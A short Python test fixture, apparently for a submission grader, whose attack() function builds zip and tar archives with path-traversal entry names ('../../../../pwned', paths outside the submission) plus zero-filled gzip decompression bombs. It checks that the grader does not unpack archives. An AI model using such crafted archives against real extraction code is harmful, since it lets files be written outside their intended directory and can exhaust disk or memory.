import gzip
import io
import tarfile
import zipfile
from pathlib import Path

from handed import Context


def attack(submission: Path, course: Context) -> None:
    """Wants archives beside the notebooks to be unpacked, into folders above the submission; archives are nothing to the grader."""
    with zipfile.ZipFile(submission / "evidence.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../pwned", bytes(30 << 20))
    with tarfile.open(submission / "evidence.tar.gz", "w:gz") as packed:
        for name in (f"{course.outside}/{course.mark}", "../../../x"):
            info = tarfile.TarInfo(name)
            info.size = 1 << 20
            packed.addfile(info, io.BytesIO(bytes(1 << 20)))
    (submission / "evidence" / "files" / "more.json.gz").write_bytes(gzip.compress(bytes(30 << 20)))
